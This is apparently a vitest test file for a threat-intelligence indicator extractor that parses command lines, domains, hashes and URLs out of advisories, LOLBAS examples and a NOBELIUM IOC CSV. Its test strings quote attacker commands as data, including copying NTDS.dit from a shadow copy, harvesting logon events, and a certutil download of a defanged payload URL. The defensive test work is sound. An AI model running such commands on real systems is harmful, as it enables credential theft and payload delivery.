import { readdirSync, readFileSync, statSync } from 'node:fs';
import { join } from 'node:path';
import { describe, expect, it } from 'vitest';
import { parse } from 'yaml';
import { describeShared, shared } from '../../../../test/shared-data.js';
import { extractIndicators } from './extract-indicators.js';

const commands = (text: string) => extractIndicators(text).commandline.map((c) => c.value);

describe('command lines', () => {
  it('reads advisory command lines with quoted arguments, pipes and redirection', () => {
    expect(
      commands(
        [
          'cmd.exe /C "wmic path win32_logicaldisk get caption,filesystem,freespace,size,volumename"',
          "Get-EventLog security -instanceid 4624 -after [year-month-date] | fl * | Out-File 'C:\\users\\public\\documents\\user.dat'",
          'copy \\\\?\\GLOBALROOT\\Device\\HarddiskVolumeShadowCopy3\\Windows\\NTDS\\NTDS.dit C:\\Windows\\Temp',
          'ldifde.exe -f c:\\windows\\temp\\[filename].txt -p subtree',
          'ATBroker.exe /start malware',
        ].join('\n'),
      ),
    ).toEqual([
      'cmd.exe /C "wmic path win32_logicaldisk get caption,filesystem,freespace,size,volumename"',
      "Get-EventLog security -instanceid 4624 -after [year-month-date] | fl * | Out-File 'C:\\users\\public\\documents\\user.dat'",
      'copy \\\\?\\GLOBALROOT\\Device\\HarddiskVolumeShadowCopy3\\Windows\\NTDS\\NTDS.dit C:\\Windows\\Temp',
      'ldifde.exe -f c:\\windows\\temp\\[filename].txt -p subtree',
      'ATBroker.exe /start malware',
    ]);
  });

  it('ends an inline command at prose: stop words, adverbs, capitalised words, sentence ends', () => {
    expect(
      commands(
        'They ran whoami /all to list privileges. Then nltest /domain_trusts was used remotely. ' +
          'Finally certutil -urlcache -split -f hxxp://1.2.3[.]4/a.exe a.exe, which dropped the payload.',
      ),
    ).toEqual([
      'whoami /all',
      'nltest /domain_trusts',
      'certutil -urlcache -split -f hxxp://1.2.3[.]4/a.exe a.exe',
    ]);
  });

  it('does not read prose that names a tool as a command', () => {
    expect(
      commands(
        [
          'The actors used ntdsutil and PowerShell to dump credentials.',
          'Set up MFA: everywhere, and reg keys should be audited.',
          'The net effect is that cmd is a shell; net use is common.',
          'Note: the Get-EventLog cmdlet lists events.',
          'We get-together at noon.',
        ].join('\n'),
      ),
    ).toEqual([]);
  });
});

describeShared('command lines from the LOLBAS project', () => {
  it('recognises most single-line LOLBAS example commands, whole', () => {
    const root = shared('lolbas', 'yml');
    const files: string[] = [];
    const walk = (dir: string): void => {
      for (const f of readdirSync(dir)) {
        const p = join(dir, f);
        if (statSync(p).isDirectory()) walk(p);
        else if (p.endsWith('.yml')) files.push(p);
      }
    };
    walk(root);
    let total = 0;
    let whole = 0;
    for (const f of files) {
      const doc = parse(readFileSync(f, 'utf8')) as { Commands?: { Command: string }[] };
      for (const c of doc.Commands ?? []) {
        const cmd = String(c.Command).trim();
        if (cmd.includes('\n')) continue;
        total++;
        if (commands(`The attacker ran the following:\n${cmd}\n`)[0] === cmd) whole++;
      }
    }
    expect(total).toBeGreaterThan(400);
    expect(whole / total).toBeGreaterThan(0.75);
  });
});

describeShared('IOC tables: the Microsoft MSTIC CSVs', () => {
  it('finds every domain, address, hash and URL of the CSV rows, as table rows', () => {
    const file = shared('sample-iocs', 'microsoft-mstic', 'May21NOBELIUMIoCs.csv');
    const text = readFileSync(file, 'utf8');
    const set = extractIndicators(text);
    const found = new Set(
      Object.values(set)
        .flat()
        .map((i) => i.value.toLowerCase()),
    );
    const rows = text.split(/\r?\n/).slice(1).filter(Boolean);
    const missed = rows
      .map((r) => (r.split(',')[2] ?? '').trim())
      .filter((v) => !v.includes('<') && !found.has(v.toLowerCase()));
    expect(missed).toEqual([]);
    expect(
      new Set(
        Object.values(set)
          .flat()
          .map((i) => i.context),
      ),
    ).toEqual(new Set(['table']));
  });
});
